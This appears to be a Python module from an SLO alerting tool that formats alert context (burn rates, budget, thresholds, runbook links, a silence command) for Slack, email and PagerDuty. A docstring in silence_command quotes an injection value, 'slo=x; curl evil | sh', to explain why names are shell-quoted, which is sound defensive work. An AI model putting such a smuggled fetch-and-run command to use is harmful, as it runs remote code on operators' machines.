"""How an alert reads in a message: the facts every human-facing channel shows
(Slack fields, email tables, PagerDuty ``custom_details``), formatted once.

SPEC section 4 asks for context in every notification: current value vs
target and thresholds, window, burn rates, budget remaining, time firing,
runbook URL, source, and a command to silence it. The alert engine puts them
in ``Alert.annotations`` (strings) and ``Alert.context`` (numbers); this module
prefers the engine's strings and formats the numbers itself when a string is
missing. Nothing here does I/O.
"""

from __future__ import annotations

from collections.abc import Mapping
from dataclasses import dataclass
from typing import TYPE_CHECKING, Any

from slotui.formatting import format_duration, format_percent, format_rate, format_value, is_number

if TYPE_CHECKING:
    from slotui.alerting.notification import Alert, Notification


@dataclass(frozen=True, slots=True)
class Fact:
    """One labelled fact of an alert, e.g. ``Fact("Burn rate", "14.4x")``."""

    label: str
    value: str


def _number(x: Any) -> float | None:
    return float(x) if is_number(x) else None


def _value(ctx: Mapping[str, Any], key: str) -> str:
    """A context value written for its SLO's unit and kind, as the TUI and ``check`` write it."""
    return format_value(_number(ctx.get(key)), str(ctx.get("unit") or ""), kind=str(ctx.get("kind") or "threshold"))


def _duration(seconds: Any) -> str | None:
    return format_duration(float(seconds)) if is_number(seconds) else None


def status_word(alert: "Alert") -> str:
    """``FIRING`` / ``RESOLVED`` / ``ACKED`` for one alert (TEST is shown separately)."""
    if alert.state == "resolved":
        return "RESOLVED"
    if alert.acked:
        return "ACKED"
    return "FIRING"


def target_text(alert: "Alert") -> str:
    """The objective: the engine's ``thresholds`` annotation (``target >= 0.85, warning < 0.80, ...``),
    else ``≥ 0.85 (warning 0.8, critical 0.7)`` from the context."""
    ann, ctx = alert.annotations, alert.context
    if ann.get("thresholds"):
        return ann["thresholds"]
    unit = str(ctx.get("unit") or "")
    if ann.get("target"):
        base = ann["target"]
    elif ctx.get("target") is not None:
        direction = ctx.get("direction")
        op = "≤ " if direction == "lower_is_better" else "≥ " if direction == "higher_is_better" else ""
        base = op + format_value(_number(ctx.get("target")), unit, kind=str(ctx.get("kind") or "threshold"), precise=True)
    else:
        return "n/a"
    extra = [
        f"{name} {_value(ctx, name)}" for name in ("warning", "critical") if ctx.get(name) is not None
    ]
    return f"{base} ({', '.join(extra)})" if extra else base


def value_text(alert: "Alert") -> str:
    ann, ctx = alert.annotations, alert.context
    if ann.get("value"):
        return ann["value"]
    return _value(ctx, "value")


def budget_text(alert: "Alert") -> str:
    """``42.0% left`` (negative when overspent)."""
    ann, ctx = alert.annotations, alert.context
    text = ann.get("budget_remaining")
    if text:
        return f"{text} left" if text.endswith("%") else text
    if ctx.get("budget_remaining") is None:
        return "n/a"
    return f"{format_percent(_number(ctx['budget_remaining']))} left"


def burn_text(alert: "Alert") -> str:
    """Fastest burn rate first, then each tier: ``14.2x (1h/5m 14.2x; 3d/6h 1.3x firing)``;
    the tiers are the engine's ``burn_rates`` annotation when present."""
    ann, ctx = alert.annotations, alert.context
    fastest = ctx.get("fastest_burn")
    head = format_rate(fastest) if is_number(fastest) else None
    if ann.get("burn_rates"):
        return f"{head} ({ann['burn_rates']})" if head else ann["burn_rates"]
    tiers = ctx.get("burn_rates") or []
    parts = []
    for tier in tiers if isinstance(tiers, list) else []:
        if not isinstance(tier, dict):
            continue
        lw, sw = _duration(tier.get("long_window")), _duration(tier.get("short_window"))
        rate = tier.get("long_rate")
        rate_s = format_rate(_number(rate))
        mark = " firing" if tier.get("firing") else ""
        parts.append(f"{lw}/{sw} {rate_s}{mark}")
    head = head or "n/a"
    return f"{head} ({'; '.join(parts)})" if parts else head


def window_text(alert: "Alert") -> str:
    ann, ctx = alert.annotations, alert.context
    return ann.get("window") or _duration(ctx.get("window")) or "n/a"


def firing_for_text(alert: "Alert") -> str | None:
    ann, ctx = alert.annotations, alert.context
    return ann.get("firing_for") or _duration(ctx.get("firing_for"))


def silence_command(alert: "Alert") -> str:
    """The command that snoozes this alert: the engine's, or ``slotui silence add slo=NAME -d 1h``.

    The name is shell-quoted as the engine's is: copied from a test alert (which has no engine
    command), ``slo=x; curl evil | sh`` ran the rest of an SLO's name as a shell command."""
    from slotui.alerting.context import shell_matcher

    return alert.annotations.get("silence_command") or (
        f"slotui silence add {shell_matcher('slo', alert.slo)} {shell_matcher('severity', alert.severity)} -d 1h "
        "--comment 'ack'"
    )


#: what stays as it is in a link: RFC 3986's reserved and unreserved characters, and "%" (escapes
#: already made); spaces, quotes, <>, non-ASCII and the like are %-encoded
_URL_SAFE = ":/?#[]@!$&'()*+,;=%~-._"


def link(url: str | None) -> str | None:
    """``url`` as a link every receiver takes, or None when it is not http(s). A runbook on a wiki
    ("https://wiki/SRE Runbooks/LLM") is not a valid URL for Slack's button (invalid_blocks: the whole
    message refused); the same encoded link goes to every channel."""
    if not url or not url.startswith(("http://", "https://")):
        return None
    from urllib.parse import quote

    return quote(url, safe=_URL_SAFE)


def runbook_url(alert: "Alert") -> str | None:
    return link(alert.annotations.get("runbook_url") or alert.annotations.get("runbook"))


def generator_url(alert: "Alert") -> str | None:
    return link(alert.generator_url)


def source_text(alert: "Alert") -> str:
    return alert.labels.get("source") or "n/a"


def facts(alert: "Alert") -> list[Fact]:
    """The context of one alert as labelled facts, in reading order."""
    out = [
        Fact("Value", value_text(alert)),
        Fact("Target", target_text(alert)),
        Fact("Budget", budget_text(alert)),
        Fact("Burn rate", burn_text(alert)),
        Fact("Window", window_text(alert)),
        Fact("Source", source_text(alert)),
    ]
    contributors = alert.annotations.get("top_contributors")
    if contributors:
        out.append(Fact("Top contributors", contributors))
    samples = alert.annotations.get("samples")
    if samples:
        out.append(Fact("Samples", samples))
    forecast = alert.annotations.get("forecast")
    if forecast:
        out.append(Fact("Forecast", forecast))
    firing_for = firing_for_text(alert)
    if firing_for and alert.state == "firing":
        out.append(Fact("Firing for", firing_for))
    if alert.acked:
        out.append(Fact("Acknowledged", f"by {alert.acked_by}" if alert.acked_by else "yes"))
    return out


def description(alert: "Alert") -> str:
    return alert.annotations.get("description", "")


def kind_emoji(notification: "Notification") -> str:
    """The header's emoji, as the character itself (Slack's header text is plain, shortcodes off):
    test, ack, resolved, or by severity."""
    if notification.is_test:
        return "\N{TEST TUBE}"
    if notification.kind == "acknowledge":
        return "\N{EYES}"
    if notification.status == "resolved":
        return "\N{WHITE HEAVY CHECK MARK}"
    severities = {a.severity for a in notification.firing}
    if "page" in severities:
        return "\N{POLICE CARS REVOLVING LIGHT}"
    if "critical" in severities:
        return "\N{LARGE RED CIRCLE}"
    return "\N{WARNING SIGN}\N{VARIATION SELECTOR-16}"


def skip_reason(send_resolved: bool, notification: "Notification") -> str | None:
    """Why a channel with ``send_resolved`` does not send this notification, or None."""
    if not send_resolved and notification.kind == "resolve":
        return "not sent: send_resolved is false for this channel"
    return None
